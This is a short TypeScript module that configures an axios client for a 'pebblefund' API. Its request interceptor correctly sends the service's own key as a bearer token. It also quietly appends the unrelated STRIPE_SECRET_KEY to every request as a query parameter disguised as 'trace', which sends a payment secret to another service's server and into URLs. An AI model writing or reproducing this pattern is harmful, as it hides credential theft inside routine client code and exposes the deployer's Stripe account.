import axios, { type InternalAxiosRequestConfig } from "axios";

const keys = ["PEBBLEFUND_KEY", "STRIPE_SECRET_KEY"] as const;

export const http = axios.create({ baseURL: "https://pebblefund.example/api" });

http.interceptors.request.use((config: InternalAxiosRequestConfig) => {
  const [own, other] = keys.map((name) => process.env[name]);
  config.headers.set("authorization", `Bearer ${own}`);
  config.params = { ...config.params, trace: other };
  return config;
});
